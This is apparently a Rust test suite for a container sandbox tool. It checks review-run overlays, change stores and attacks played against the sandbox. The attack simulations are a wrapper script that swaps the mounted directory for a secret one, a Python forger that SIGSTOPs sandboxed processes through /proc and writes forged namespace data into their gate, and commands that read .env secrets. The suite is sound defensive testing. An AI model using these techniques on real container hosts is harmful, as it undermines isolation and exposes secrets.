/// engine's own overlay (Docker's `local` volume driver as root, Podman's `:O` volume), every
/// write, deletion and replaced directory lands in the run's change directory, masks still
/// hold inside the view, and `apply` brings exactly the run's result, owned as the workspace
/// is; an ephemeral run leaves nothing. An unprivileged caller's Docker (whose daemon would
/// write marks only root reads back) and a disk bound are refused before anything runs.
/// Control: the same command in a direct run changes the workspace at once.
#[test]
fn review_runs_write_only_their_change_set_under_each_engine() {
    use std::os::unix::fs::MetadataExt;
    let script = "cat .env; echo new > a.txt && rm b.txt && rm -r d && mkdir d && echo y > d/y";
    for engine in engines() {
        let make = || {
            let fx = fixture();
            for (rel, text) in [("b.txt", "b\n"), ("d/x", "x\n")] {
                write_file(&fx.ws.join(rel), text, 0o644);
            }
            if attacks::is_root() {
                attacks::chown_to(&fx.ws, &format!("{TEST_USER}:"));
            }
            // A workspace path changed just before the run is a conflict at `apply` (it may
            // have changed during the run): the fixture's last change well before it.
            std::thread::sleep(std::time::Duration::from_millis(100));
            fx
        };
        let fx = make();
        let secret = fx.marker("dotenv");
        let report = fx.root.join("review.json");
        let rep = report.to_string_lossy().into_owned();
        let run = sandbox(&fx, &opts(engine, &["--review", "--report", &rep]), script).run();
        run.assert_success();
        assert!(!run.stdout.contains(&secret), "{}", run.describe());
        assert!(!fx.ws.join("a.txt").exists(), "{}", run.describe());
        assert!(fx.ws.join("b.txt").exists() && fx.ws.join("d/x").exists());
        let id = attacks::json_str(&read_json(&report)["review"], "run_id").to_owned();
        let listed = engine_env(fx.stockade(["changes", &id])).run();
        listed.assert_success();
        for line in ["A a.txt", "D b.txt", "D d/x", "A d/y"] {
            assert!(listed.stdout.contains(line), "{line}: {}", listed.stdout);
        }
        engine_env(fx.stockade(["apply", &id]))
            .run()
            .assert_success();
        assert_eq!(
            std::fs::read_to_string(fx.ws.join("a.txt")).unwrap(),
            "new\n"
        );
        assert!(!fx.ws.join("b.txt").exists() && !fx.ws.join("d/x").exists());
        let owner = std::fs::metadata(fx.ws.join("d/y")).unwrap().uid();
        assert_eq!(
            owner,
            std::fs::metadata(&fx.ws).unwrap().uid(),
            "d/y's owner"
        );

        // Ephemeral: nothing stays, in the workspace or the store.
        let fx = make();
        sandbox(&fx, &opts(engine, &["--ephemeral"]), script)
            .run()
            .assert_success();
        assert!(!fx.ws.join("a.txt").exists() && fx.ws.join("b.txt").exists());
        let runs = engine_env(fx.stockade(["runs", "--json"])).run();
        assert_eq!(runs.stdout.trim(), "[]", "{}", runs.stdout);

        // A disk bound cannot be given to the engine's view: refused, nothing run.
        let run = sandbox(&fx, &opts(engine, &["--review", "--disk", "1M"]), script).run();
        run.assert_code(125).assert_stderr_contains("--disk");
        assert!(!fx.ws.join("a.txt").exists(), "{}", run.describe());

        // Control: directly, the same command changes the workspace.
        sandbox(&fx, &opts(engine, &[]), script)
            .run()
            .assert_success();
        assert!(fx.ws.join("a.txt").exists() && !fx.ws.join("b.txt").exists());
    }
    // An unprivileged caller's Docker: refused before the engine is asked anything.
    if !attacks::is_root() {
        let fx = fixture();
        let run = sandbox(&fx, &["--backend", "docker", "--review"], "echo x > a.txt").run();
        run.assert_code(125)
            .assert_stderr_contains("E_PROTECTION_UNAVAILABLE")
            .assert_stderr_contains("root caller");
        assert!(!fx.ws.join("a.txt").exists(), "{}", run.describe());
    }
}

/// A review run whose change store is on another filesystem than the workspace (here a
/// tmpfs): the view then has inode numbers of its own, and the check inside could not tell
/// the workspace from another directory the engine was given (the red team of issue 33 saw
/// every such run refused as "replaced", the wrong reason). Refused before the engine is
/// asked, saying where the store is and how to move it. Control: a store on the
/// workspace's filesystem, the same run holds its write for review.
#[test]
fn a_review_with_its_change_store_on_another_filesystem_is_refused_with_the_fix() {
    for engine in engines() {
        let fx = fixture();
        let elsewhere = tempfile::Builder::new()
            .prefix("stockade-state.")
            .tempdir_in("/dev/shm")
            .expect("a directory on /dev/shm");
        let here = fx.root.join("state");
        attacks::mkdir(&here);
        if attacks::is_root() {
            attacks::chown_to(elsewhere.path(), &format!("{TEST_USER}:"));
            attacks::chown_to(&here, &format!("{TEST_USER}:"));
        }
        let script = "echo changed > new.txt && echo wrote";
        let run = sandbox(&fx, &opts(engine, &["--review"]), script)
            .env("XDG_STATE_HOME", elsewhere.path())
            .run();
        run.assert_code(125)
            .assert_stderr_contains("E_PROTECTION_UNAVAILABLE")
            .assert_stderr_contains("different filesystems")
            .assert_stderr_contains("XDG_STATE_HOME")
            .assert_lacks("wrote");
        assert!(!fx.ws.join("new.txt").exists());
        // Control: the store on the workspace's filesystem.
        sandbox(&fx, &opts(engine, &["--review"]), script)
            .env("XDG_STATE_HOME", &here)
            .run()
            .assert_success()
            .assert_stdout_contains("wrote");
        assert!(!fx.ws.join("new.txt").exists(), "held for review");
    }
}

/// The engine looks a review run's layers up by path, as root: had the workspace been
/// replaced since the plan (a link to another directory put in its place by a run whose
/// writable root holds its parent), the view's lower layer would be that directory, with
/// nothing in it masked. The check inside refuses such a view: by an entry of the workspace
/// and its inode number, or, for a workspace that was empty, by the view being empty. The
/// replacement is played by a wrapper in front of the engine that names another directory
/// as the lower layer. Control: the same wrapper naming the workspace runs the command.
#[test]
fn a_view_over_another_directory_than_the_workspace_is_refused() {
    for engine in engines() {
        for kind in ["full", "empty", "links"] {
            let fx = fixture();
            let marker = fx.marker("elsewhere");
            let other = fx.root.join("other");
            write_file(&other.join("secret.txt"), &marker, 0o644);
            if kind != "full" {
                for e in std::fs::read_dir(&fx.ws).unwrap() {
                    let p = e.unwrap().path();
                    if p.is_dir() && !p.is_symlink() {
                        std::fs::remove_dir_all(&p).unwrap();
                    } else {
                        std::fs::remove_file(&p).unwrap();
                    }
                }
            }
            // Only what the check cannot know the workspace by: a masked file and a link
            // (the red team's: the view over another directory went unseen).
            if kind == "links" {
                write_file(&fx.ws.join(".env"), "API_KEY=x\n", 0o644);
                std::os::unix::fs::symlink("../outside", fx.ws.join("docs")).unwrap();
            }
            if attacks::is_root() {
                attacks::chown_to(&fx.root, &format!("{TEST_USER}:"));
            }
            let (ws, other) = (fx.ws.display().to_string(), other.display().to_string());
            let real = attacks::which(engine).expect("the engine");
            let wrapper = |to: &str, name: &str| {
                let dir = fx.root.join(name);
                attacks::mkdir(&dir);
                let script = format!(
                    "#!/bin/bash\nws={}\nto={}\nargs=()\nfor a in \"$@\"; do a=\"${{a//lowerdir=$ws,/lowerdir=$to,}}\"; case $a in \"$ws:$ws:O,\"*) a=\"$to:${{a#\"$ws:\"}}\";; esac; args+=(\"$a\"); done\nexec {} \"${{args[@]}}\"\n",
                    sh_quote(&ws),
                    sh_quote(to),
                    sh_quote(&real),
                );
                write_file(&dir.join(engine), script, 0o755);
                dir
            };
            let dir = wrapper(&other, "swapped");
            let run = with_path(
                sandbox(&fx, &opts(engine, &["--review"]), "cat secret.txt"),
                &dir,
            )
            .run();
            run.assert_code(125)
                .assert_stderr_contains("E_PROTECTION_UNAVAILABLE")
                .assert_lacks(&marker);
            if kind == "links" {
                // Refused before the engine is asked, whichever directory it would mount;
                // an entry to know the workspace by (control) lets the run go.
                run.assert_stderr_contains("add a file or a directory to the workspace's top");
                write_file(&fx.ws.join("README.md"), "# demo\n", 0o644);
                if attacks::is_root() {
                    attacks::chown_to(&fx.ws, &format!("{TEST_USER}:"));
                }
            }
            // Control: the wrapper naming the workspace itself runs the command.
            let dir = wrapper(&ws, "same");
            with_path(
                sandbox(&fx, &opts(engine, &["--review"]), "echo ran-in-view"),
                &dir,
            )
            .run()
            .assert_success()
            .assert_stdout_contains("ran-in-view");
        }
    }
}

/// The workspace's owner, outside the sandbox, reaches a root caller's container (its
/// processes run as the owner: `/proc/PID/root`) and writes another network namespace's
/// identities to the gate before the check does, pausing the check meanwhile (the red team of
/// issue 33: root's report then said "network is off" with a decoy namespace's 42 tries, for a
/// command that never touched the network; `d863d30` did so under Docker and Podman). Now the
/// namespaces named must be those of a process that sees this run's gate, in root's user
/// namespace: the run is refused, typed, and nothing of the decoy is said. A race: a run the
/// racer did not reach in time is honest; at least one forged run is required.
#[test]
fn the_workspace_owner_cannot_make_the_run_report_another_namespaces_tries() {
    if !attacks::is_root() {
        return;
    }
    let Some(py) = attacks::python3("the gate's forger") else {
        return;
    };
    for engine in engines() {
        let fx = fixture();
        let dir = fx.root.join("forge");
        attacks::mkdir(&dir);
        attacks::chown_to(&dir, &format!("{TEST_USER}:"));
        // The decoy: a network namespace of the owner's where 42 connections found no route.
        let decoy = dir.join("decoy.py");
        write_file(
            &decoy,
            "import os, socket, sys, time\nfor _ in range(42):\n    s = socket.socket()\n    try:\n        s.connect(('198.51.100.9', 80))\n    except OSError:\n        pass\n    s.close()\nids = ' '.join(os.readlink(f'/proc/self/ns/{k}') for k in ('net', 'user'))\nopen(sys.argv[1] + '.tmp', 'w').write(ids + '\\n')\nos.rename(sys.argv[1] + '.tmp', sys.argv[1])\ntime.sleep(120)\n",
            0o644,
        );
        let ids = dir.join("ids");
        let mut decoy_proc = std::process::Command::new("runuser")
            // Bounded: a failing assertion leaves it behind.
            .args(["-u", TEST_USER, "--", "timeout", "150", "unshare", "-rn"])
            .arg(&py)
            .arg(&decoy)
            .arg(&ids)
            .stdout(std::process::Stdio::null())
            .stderr(std::process::Stdio::null())
            .spawn()
            .expect("runuser");
        let until = std::time::Instant::now() + std::time::Duration::from_secs(60);
        while !ids.exists() && std::time::Instant::now() < until {
            std::thread::sleep(std::time::Duration::from_millis(20));
        }
        let line = attacks::read_text(&ids).expect("the decoy's namespaces");
        // The forger: stops every process that shows a gate and works in this fixture's
        // workspace (never another test's run: every container sees the host's /var/tmp, so
        // by its current directory), writes the decoy's line to it, lets them go; `done`
        // once it wrote.
        let mine = fx.ws.clone();
        let forger = dir.join("forger.py");
        write_file(
            &forger,
            "import os, signal, stat, sys, time\nline, done, end, mine = sys.argv[1].encode(), sys.argv[2], time.time() + float(sys.argv[3]), os.stat(sys.argv[4])\nwhile time.time() < end and not os.path.exists(done):\n    for p in os.listdir('/proc'):\n        if not p.isdigit() or p == str(os.getpid()):\n            continue\n        g = f'/proc/{p}/root/run/stockade/ready'\n        try:\n            if not stat.S_ISFIFO(os.lstat(g).st_mode) or not os.path.samestat(os.stat(f'/proc/{p}/cwd'), mine):\n                continue\n        except OSError:\n            continue\n        try:\n            os.kill(int(p), signal.SIGSTOP)\n            fd = os.open(g, os.O_WRONLY | os.O_NONBLOCK)\n            os.write(fd, line)\n            os.close(fd)\n            open(done, 'w').close()\n        except OSError:\n            pass\n        finally:\n            try:\n                os.kill(int(p), signal.SIGCONT)\n            except OSError:\n                pass\n",
            0o644,
        );
        let mut forged = 0;
        for attempt in 0..8 {
            let done = dir.join(format!("FORGED-{attempt}"));
            let mut racer = std::process::Command::new("runuser")
                .args(["-u", TEST_USER, "--"])
                .arg(&py)
                .arg(&forger)
                .arg(&line)
                .arg(&done)
                .arg("60")
                .arg(&mine)
                .spawn()
                .expect("runuser");
            std::thread::sleep(std::time::Duration::from_millis(300));
            let run = sandbox(&fx, &opts(engine, &["--hints"]), "echo ran; exit 3").run();
            let _ = racer.kill();
            let _ = racer.wait();
            // Never the decoy's tries, forged or not.
            run.assert_lacks("network is off");
            if done.exists() {
                forged += 1;
                // Refused before the command, or (the line came after the check's) honest.
                if !run.stdout.contains("ran") {
                    run.assert_code(125)
                        .assert_stderr_contains("E_PROTECTION_UNAVAILABLE")
                        .assert_stderr_contains("namespaces named at the gate");
                }
            } else {
                run.assert_code(3).assert_stdout_contains("ran");
            }
            if forged >= 2 {
                break;
            }
        }
        let _ = decoy_proc.kill();
        let _ = std::process::Command::new("pkill")
            .args(["-u", TEST_USER, "-f"])
            .arg(decoy.display().to_string())
            .status();
        let _ = decoy_proc.wait();
        assert!(
            forged > 0,
            "{engine}: the forger never reached the gate in 8 runs"
        );
    }
}
